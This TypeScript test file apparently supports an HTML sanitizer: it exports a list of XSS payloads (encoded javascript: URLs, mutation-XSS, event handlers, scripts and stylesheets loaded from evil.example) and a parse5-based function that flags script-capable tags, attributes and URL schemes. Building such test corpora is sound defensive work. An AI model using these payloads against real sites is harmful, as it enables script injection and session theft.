import { parseFragment, type DefaultTreeAdapterMap } from 'parse5';

/**
 * The security issue's XSS corpus, so every place that stores user HTML runs the same samples: the
 * messages (modules/message/message.test.ts) and the content admin (issue 19).
 */
/** The payloads that ran in the audit, then the OWASP XSS filter-evasion basics. */
export const XSS_PAYLOADS = [
  '<img/src/onerror=alert(1)>',
  '<img src="x"/onerror="alert(1)">',
  '<details/open/ontoggle=alert(1)>',
  '<a href="jav&#x61;script:alert(1)">x</a>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>">',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<style>@import "https://evil.example/x.css";</style><p>hi</p>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="  javascript:alert(1)">spaced</a>',
  '<a href="java\tscript:alert(1)">tab</a>',
  '<a href="jav&#x0A;ascript:alert(1)">newline</a>',
  '<a href="&#14;javascript:alert(1)">control</a>',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<<SCRIPT>alert(1);//<</SCRIPT>',
  '<script src=https://evil.example/x.js></script>',
  '<body onload=alert(1)>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
  '<a href="https://ok.example" onmouseover="alert(1)">hover</a>',
];

type Node5 = DefaultTreeAdapterMap['childNode'];
const RUNNABLE_TAGS = new Set(['script', 'style', 'iframe', 'frame', 'object', 'embed', 'form', 'svg', 'math', 'base', 'link', 'meta', 'template', 'details']);

/** What a browser would find able to run script in this HTML, parsed as browsers parse it. */
export function dangersIn(html: string): string[] {
  const found: string[] = [];
  const walk = (nodes: Node5[]) => {
    for (const node of nodes) {
      if (!('tagName' in node)) continue;
      if (RUNNABLE_TAGS.has(node.tagName) || node.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`<${node.tagName}>`);
      for (const { name, value } of node.attrs) {
        if (/^on/i.test(name) || name === 'style' || name === 'srcdoc') found.push(`${name}=`);
        // eslint-disable-next-line no-control-regex -- browsers ignore control characters in a URL: strip them as they do
        const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(value.replace(/[\u0000-\u0020]/g, ''))?.[1].toLowerCase();
        if (['href', 'src', 'action', 'formaction', 'xlink:href'].includes(name) && scheme && !['http', 'https', 'mailto'].includes(scheme))
          found.push(`${name}=${scheme}:`);
      }
      walk(node.childNodes);
    }
  };
  walk(parseFragment(html).childNodes);
  return found;
}
